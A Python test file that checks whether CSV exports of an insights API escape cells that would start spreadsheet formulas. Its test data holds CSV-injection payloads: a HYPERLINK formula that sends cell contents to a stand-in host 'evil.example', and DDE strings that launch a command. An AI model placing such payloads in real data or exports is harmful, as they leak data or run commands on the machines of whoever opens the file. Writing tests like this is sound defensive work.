"""Every ``format=csv`` export of the PostHog insight routes is safe to open in a spreadsheet, whatever
names callers gave their insights, tags, thresholds and keys (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io

from tests.conftest import ADMIN_KEY, Api

SP = {"spaceId": "Spaces-1"}
INSIGHTS = "/api/projects/{spaceId}/insights"
ONE = INSIGHTS + "/{insightId}"
INSIGHT = {**SP, "insightId": "1"}
NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def rows_of(api: Api, route: str, path_params: dict[str, str], key: str = ADMIN_KEY) -> list[dict[str, str]]:
    answer = api.call("GET", route, path_params=path_params, query={"format": "csv"}, key=key)
    assert answer.status == 200, answer.body
    assert answer.headers["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(answer.body)))


def unsafe_cells(rows: list[dict[str, str]], numeric: set[str]) -> list[tuple[str, str]]:
    return [(c, v) for r in rows for c, v in r.items() if v.startswith(TRIGGERS) and c not in numeric]


def test_hostile_names_are_escaped_in_every_csv_export(api: Api) -> None:
    # Given an insight, a threshold and a viewer whose names are formulas
    admin_body = {"name": "@evil", "user": "-2+3+cmd|' /C calc'!A0", "scopes": ["admin"]}
    hostile_key = api.call("POST", "/api/{spaceId}/apikeys", path_params=SP, body=admin_body, key=ADMIN_KEY).body["key"]
    report = api.call("POST", "/api/{spaceId}/insights/reports", path_params=SP, body={"Name": "+R"}, key=ADMIN_KEY)
    body = {
        "name": NAME,
        "description": "+1+cmd|' /C calc'!A0",
        "tags": ["@SUM(1+1)", "\t=1+1"],
        "order": -3,
        "query": {"kind": "DoraMetricsQuery", "reportId": report.body["Id"], "metric": "lead_time"},
    }
    assert api.call("POST", INSIGHTS, path_params=SP, body=body, key=hostile_key).status == 201
    threshold = {"name": "\r=1+1", "condition": {"type": "absolute_value", "bounds": {"lower": -3.5}}}
    assert api.call("POST", ONE + "/thresholds", path_params=INSIGHT, body=threshold, key=ADMIN_KEY).status == 201
    api.call("POST", INSIGHTS + "/viewed", path_params=SP, body={"insight_ids": [1]}, key=hostile_key)

    # When each CSV export is read back
    listed = rows_of(api, INSIGHTS, SP)
    one = rows_of(api, ONE, INSIGHT)
    activity = rows_of(api, ONE + "/activity", INSIGHT)
    trending = rows_of(api, INSIGHTS + "/trending", SP)
    viewed = rows_of(api, INSIGHTS + "/my_last_viewed", SP, key=hostile_key)
    thresholds = rows_of(api, ONE + "/thresholds", INSIGHT)

    # Then text that would start a formula carries a leading quote, and numbers stay numbers
    assert listed[0]["name"] == one[0]["name"] == trending[0]["name"] == viewed[0]["name"] == "'" + NAME
    assert listed[0]["description"] == "'+1+cmd|' /C calc'!A0"
    assert listed[0]["order"] == "-3"  # a genuine number
    assert thresholds[0]["name"] == "'\r=1+1"
    for rows in (listed, one, activity, trending, viewed, thresholds):
        assert rows
        assert unsafe_cells(rows, numeric={"order"}) == []
